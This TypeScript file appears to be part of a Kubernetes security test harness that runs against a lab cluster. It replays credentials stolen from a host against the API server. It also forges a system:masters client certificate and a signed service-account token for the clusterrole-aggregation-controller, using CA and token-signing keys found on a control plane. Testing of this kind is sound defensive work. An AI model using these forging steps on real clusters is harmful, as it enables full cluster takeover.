import { sign } from 'node:crypto'
import { z } from 'zod'
import { KubeApi } from '../../../lab/cluster/kube-api.ts'
import type { Identity } from '../../../src/identity/identity.ts'
import { computeKeyId } from '../../../src/lifecycle/key-rotation/token-secrets.ts'
import { issueClientCertificate } from '../client-certificate.ts'
import { type Attack, type AttackContext, type Attacker, attemptRequest, getApiOrigin } from './attack.ts'
import type { Loot, StolenCertificate, StolenCredential, StolenToken } from './stolen-credentials.ts'

/**
 * Reads /version with every credential that was found on a host. The API answers every user whom it can
 * authenticate, so only invalid credentials are refused.
 */
export function buildCredentialAttacks(
  context: Pick<AttackContext, 'cluster'>,
  attacker: Attacker,
  credentials: readonly StolenCredential[],
): Attack[] {
  const api = getApiOrigin(context)
  return credentials.map((credential) => ({
    attacker,
    what: `${credential.kind === 'token' ? credential.account : credential.path}: authenticate to the API`,
    run: async () => attemptRequest(api, credential, { method: 'GET', path: '/version' }),
  }))
}

/** Returns the credentials of a host with which its components and pods authenticate to the API. */
export function listApiCredentials({ certificates, tokens }: Loot): readonly StolenCredential[] {
  const clients = certificates.filter(
    ({ path, commonName }) => !path.endsWith('server') && /^(system|hyperkube):/.test(commonName),
  )
  return [...clients, ...tokens]
}

/**
 * Forges credentials of an administrator and of a powerful service account with the keys of the identity.
 * `loot` proves that root finds the same keys on a control plane.
 */
export async function forgeCredentials(
  { cluster }: Pick<AttackContext, 'cluster'>,
  loot: Loot,
): Promise<readonly StolenCredential[]> {
  const identity = await cluster.operator.identity()
  const caKey = identity.cas.kubernetes.privateKey.revealText()
  if (!loot.certificates.some(({ key }) => key.trim() === caKey.trim()))
    throw new Error('the host has no key of the Kubernetes CA')
  if (!loot.keyFiles.some((path) => path.endsWith('service-account.key')))
    throw new Error('the host has no key that signs tokens')
  const admin = await issueClientCertificate(identity, 'kubernetes', 'forged-admin', ['system:masters'])
  const certificate: StolenCertificate = {
    kind: 'certificate',
    path: 'forged certificate of system:masters',
    commonName: 'forged-admin',
    ...admin,
  }
  // The attacker reads the uid of the service account with the forged certificate.
  const api = new KubeApi(getApiOrigin({ cluster }), admin)
  try {
    return [certificate, await forgeToken(api, identity)]
  } finally {
    api.close()
  }
}

const account = 'clusterrole-aggregation-controller'
const object = z.looseObject({ metadata: z.looseObject({ uid: z.string() }) })

/** Forges a token of a service account that may change every ClusterRole. */
async function forgeToken(api: KubeApi, identity: Identity): Promise<StolenToken> {
  const path = `/api/v1/namespaces/kube-system/serviceaccounts/${account}`
  const { uid } = object.parse(await api.get(path)).metadata
  const { publicKey, privateKey } = identity.serviceAccount
  const issuer = 'https://kubernetes.default.svc.cluster.local'
  const now = Math.floor(Date.now() / 1000)
  const parts = [
    { alg: 'ES256', kid: computeKeyId(publicKey) },
    {
      ...{ iss: issuer, aud: [issuer], iat: now, nbf: now, exp: now + 86_400 },
      sub: `system:serviceaccount:kube-system:${account}`,
      'kubernetes.io': { namespace: 'kube-system', serviceaccount: { name: account, uid } },
    },
  ]
  const text = parts.map((part) => Buffer.from(JSON.stringify(part)).toString('base64url')).join('.')
  const key = { key: privateKey.revealText(), dsaEncoding: 'ieee-p1363' } as const
  const signature = sign('sha256', Buffer.from(text), key).toString('base64url')
  return { kind: 'token', account: `forged token of kube-system/${account}`, token: `${text}.${signature}` }
}
